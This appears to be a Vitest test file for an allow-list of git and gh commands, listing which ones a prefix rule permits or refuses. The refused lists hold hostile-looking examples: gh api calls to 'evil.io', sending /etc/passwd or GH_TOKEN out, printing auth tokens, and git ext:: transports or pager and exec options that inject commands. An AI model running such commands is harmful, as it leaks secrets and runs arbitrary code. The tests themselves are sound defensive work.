import { describe } from 'vitest'
import { testCases } from './cases.ts'

describe('prefix rules: version control', () => {
  testCases([
    {
      rule: 'git:*',
      permitted: `
      git status -sb
      git log --oneline -n5 --format=%h%x09%s -- src
      git log --pretty='format:%C(red)%h%C(reset) %an %ar' --since=2.weeks
      git show HEAD:src/a.ts
      git diff --stat --cached HEAD~1..HEAD
      git commit -am 'fix: x' --no-verify
      git rebase --onto main a b
      git stash push -m x -- a
      git branch --format='%(refname:short) %(upstream)' --sort=-committerdate
      git clone --depth 1 -b main https://a.b/c.git d
      git clone git@a.b:c.git
      git push -u origin main --force-with-lease
      git worktree add ../x -b y
      git remote -v
      git --no-pager grep -n -e x -- y
      git config user.name
      git config --get-regexp 'a.*'`,
      refused: `
      git log --ext-diff
      git show --ext-diff HEAD
      git diff --ext-diff
      git diff --textconv
      git log --textconv
      git log --output=x
      git log --show-signature
      git log '--format=%G?'
      git log --pretty=%GS
      git log --pretty=mine
      git log --ext
      git cat-file --textconv HEAD:x
      git cat-file --filters HEAD:x
      git branch --format='%(signature)'
      git branch --edit-description
      git commit -S -m x
      git commit --gpg-sign=x -m x
      git commit --trailer=x:y -m x
      git commit -e -m x
      git commit -c HEAD
      git commit -cHEAD
      git tag -s v1
      git tag -u x v1
      git push --signed
      git merge -S x
      git rebase -i HEAD~2
      git rebase -x id
      git rebase --exec=id
      git pull --rebase=interactive
      git add -e
      git add -i
      git clone -c core.pager=id x
      git clone --template=x y
      git clone -u id x
      git clone --separate-git-dir=/x y
      git clone --bundle-uri=https://a.b c
      git clone ext::id x
      git clone transport::x
      git fetch foo://x
      git remote set-url origin ext::id
      git remote add x ext::id
      git remote show ext::id
      git remote update ext::id
      git merge --edit x
      git submodule foreach id
      git -C .. status
      git -c a.b=c status
      git -ca.b=c status
      git --git-dir=x status
      git --git-dir x status
      git --exec-path=x status
      git -p log
      git config a.b c
      git config --global a.b c
      git config --add a.b c
      git config set a.b c
      git config -e
      git config --file=x --get a
      git archive -o x HEAD
      git archive --remote=x HEAD
      git format-patch -o x HEAD
      git format-patch --suffix=/../../x HEAD
      git bundle create x HEAD
      git bisect run id
      git difftool
      git mergetool
      git gui
      git instaweb
      git daemon
      git hook run x
      git maintenance start
      git alias
      git log --help
      git help log`,
    },
    {
      rule: 'gh:*',
      permitted: `
      gh pr list --json number,title -q '.[].title'
      gh -R a/b pr view 1 --comments
      gh api repos/a/b/pulls --paginate --jq '.[] | {number, title}'
      gh api -X POST repos/a/b/issues -f title=x -F n=1
      gh issue create --title x --body y
      gh run view 1 --log-failed
      gh search issues x --limit 5
      gh repo clone a/b
      gh workflow run x.yml -f a=b`,
      refused: `
      gh alias set x '!id'
      gh extension install a/b
      gh extension exec x
      gh some-extension
      gh config set pager id
      gh api https://evil.io/x
      gh api --hostname evil.io x
      gh api x --input secret
      gh api x -F 'a=@/etc/passwd'
      gh api x -Fa=@/etc/passwd
      gh api x --field a=@/etc/passwd
      gh api x --jq env
      gh api x -q '$ENV.GH_TOKEN'
      gh pr create -F /etc/passwd
      gh pr create --body-file=/etc/passwd
      gh issue comment 1 -F x
      gh pr view --web
      gh run view --log -w
      gh repo view -w
      gh pr create -e
      gh browse
      gh auth token
      gh auth status -t
      gh auth status --show-token
      gh gist create x
      gh release create v1 secret
      gh release download v1
      gh release upload v1 x
      gh run download 1
      gh secret set X -f x
      gh repo clone a/b -- -c core.pager=id
      gh repo fork a/b -- --template=x
      gh codespace ssh
      gh codespace cp a b`,
    },
  ])
})
